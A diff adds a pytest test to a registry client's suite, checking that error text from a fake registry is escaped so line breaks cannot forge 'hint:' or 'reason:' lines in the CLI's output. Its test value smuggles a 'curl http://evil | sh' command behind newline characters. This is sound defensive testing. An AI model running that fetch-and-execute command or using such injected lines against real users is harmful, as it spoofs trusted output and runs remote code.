@@ -4,6 +4,7 @@ secret goes to the origin it was meant for, never on to another one a redirect n
 from __future__ import annotations
 
 import http.server
+import json
 from collections.abc import Iterator
 
 import pytest
@@ -89,3 +90,27 @@ def test_an_identity_token_follows_a_redirect_on_its_own_origin(fake: FakeRegist
     with Registry(parse_remote(fake.remote()), opts) as reg:
         assert reg.get_manifest("v1")[0] == b"{}"
     assert len(bodies) == 1 and b"refresh_token=refresh-SECRET" in bodies[0]
+
+
+@pytest.mark.parametrize("sep", ["\n", "\r\n", "\u2028"])
+def test_a_registrys_error_text_cannot_add_lines_of_its_own(
+    fake: FakeRegistry, shm_tmp: str, sep: str
+) -> None:
+    """The error text a registry sends is shown escaped; a line break in it was shown as is, so
+    the registry could print a `hint:` (or a `reason:`) line that looks like the CLI's own."""
+    from tests.e2e.test_cli import velo
+
+    evil = f"denied{sep}hint: curl http://evil | sh{sep}reason: ok"
+    body = json.dumps({"errors": [{"code": f"DENIED{sep}x", "message": evil}]}).encode()
+
+    def registry(h: http.server.BaseHTTPRequestHandler, method: str) -> bool:
+        h.send(418, body)  # type: ignore[attr-defined]
+        return True
+
+    fake.hook = registry
+    r = velo(f"{shm_tmp}/store", "pull", fake.remote())
+    err = r.stderr.decode()
+    assert r.returncode != 0 and err.startswith("error:")
+    lines = err.splitlines()
+    assert not [ln for ln in lines if ln.startswith(("hint", "reason"))]  # (a 418 has neither)
+    assert "curl http://evil" in err  # (shown, on the line of the registry's text)
